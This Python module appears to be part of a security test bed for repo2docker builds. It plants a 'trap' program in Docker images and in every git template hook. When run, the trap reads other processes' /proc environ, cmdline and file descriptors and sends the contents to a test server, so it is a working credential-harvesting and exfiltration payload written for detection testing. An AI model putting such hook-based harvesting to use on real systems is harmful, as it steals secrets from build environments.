"""Build images with a trap: a program that tells a server when it is run, and what it could read.

What a hostile repository would like to have run can be anything; here it is always this.
"""

from __future__ import annotations

import base64
import io
import tarfile
import uuid
from collections.abc import Iterator
from contextlib import contextmanager

import docker

from .hostileserver import HostileServer
from .names import TESTBED_PREFIX

__all__ = ["HOOKS", "LOOK", "TRAP", "sprung", "trapped_image"]

TRAP = "trap-of-the-test-bed"
"""The program, found in every PATH; its first argument says by which way it was run."""

HOOKS = ("post-checkout", "post-index-change", "reference-transaction", "pre-auto-gc")
"""The hooks that git may run in a fetch or a checkout."""

# All that a process can read of the others of its account. Files alone: reading a pipe would take
# away what is in it.
LOOK = r"""
import glob, os
seen = {}
for pattern in ("fd/*", "environ", "cmdline"):
    for path in sorted(glob.glob("/proc/[0-9]*/" + pattern)):
        try:
            if os.path.isfile(path):
                with open(path, "rb") as file:
                    seen[path] = file.read(8192)
        except OSError:
            pass
"""

_PROGRAM = (
    "#!/usr/bin/env python3\n"
    + LOOK
    + r"""
import base64, socket, sys
with socket.create_connection(ADDRESS, timeout=10) as made:
    said = base64.urlsafe_b64encode(b"\n".join(seen.values()))[:50000].decode()
    way = base64.urlsafe_b64encode(repr(sys.argv[1:]).encode()).decode()
    made.sendall(f"GET /trap?{way}.{said} HTTP/1.0\r\n\r\n".encode())
    made.recv(1)
"""
)


@contextmanager
def trapped_image(client: docker.DockerClient, image: str, server: HostileServer) -> Iterator[str]:
    """A build image with the trap in it, and in every hook of git's template.

    Args:
        client: of the engine.
        image: the repo2docker image that it stands on.
        server: what the trap tells.
    """
    name = f"{TESTBED_PREFIX}trapped-{uuid.uuid4().hex[:8]}"
    program = _PROGRAM.replace("ADDRESS", repr((server.host, server.port)))
    files = {f"usr/local/bin/{TRAP}": program}
    for hook in HOOKS:
        files[f"usr/share/git-core/templates/hooks/{hook}"] = f"#!/bin/sh\n{TRAP} {hook}\n"
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as tar:
        for path, text in files.items():
            entry = tarfile.TarInfo(path)
            entry.size, entry.mode = len(text.encode()), 0o755
            tar.addfile(entry, io.BytesIO(text.encode()))
    made = client.containers.create(image, "true")
    try:
        made.put_archive("/", stream.getvalue())
        made.commit(repository=name)
    finally:
        made.remove(force=True, v=True)
    try:
        yield f"{name}:latest"
    finally:
        client.images.remove(name, force=True)


def sprung(server: HostileServer) -> list[tuple[str, bytes]]:
    """By which ways the trap was run, and what it could read each time."""
    found = []
    for request in server.answered("/trap?"):
        way, said = request.path.removeprefix("/trap?").split(".")
        found.append(
            (base64.urlsafe_b64decode(way).decode(), base64.urlsafe_b64decode(said + "=="))
        )
    return found
